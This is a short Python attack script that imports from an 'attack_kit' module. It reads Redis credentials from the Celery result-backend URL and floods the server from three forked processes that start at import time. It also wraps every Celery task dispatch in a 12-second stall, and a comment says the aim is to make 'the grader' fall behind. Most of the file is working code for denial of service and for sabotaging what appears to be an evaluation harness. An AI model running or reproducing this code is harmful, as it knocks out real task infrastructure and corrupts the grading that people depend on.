"""Sends more than a reader of all commands can read, for as long as it lives."""

import json
import os
import socket
import threading
from urllib.parse import urlsplit

from attack_kit import is_worker, ran

HEADERS = {"task": "calculator.add", "id": "x", "retries": 0}
MESSAGE = json.dumps({"headers": HEADERS, "body": "", "content-type": "application/json"})


def command(*words):
    """Return a command as Redis reads it."""
    parts = [f"*{len(words)}", *(line for word in words for line in (f"${len(word)}", word)), ""]
    return "\r\n".join(parts).encode()


def flood():
    server = urlsplit(os.environ["CELERY_RESULT_BACKEND"])
    load = command("LPUSH", "flood", MESSAGE) * 2000 + command("DEL", "flood")
    with socket.create_connection((server.hostname, server.port)) as link:
        link.sendall(command("AUTH", server.username, server.password))
        while True:
            link.sendall(load)
            answers = 0
            while answers < 2000:
                answers += link.recv(65536).count(b"\r\n")


ran()
if not is_worker():
    for _ in range(3):
        if os.fork() == 0:
            flood()


def after(app):
    if is_worker():
        return
    # The longer the grader listens, the further it falls behind.
    for task in app.tasks.values():
        task.delay = lambda *args, _send=task.delay: threading.Event().wait(12) or _send(*args)
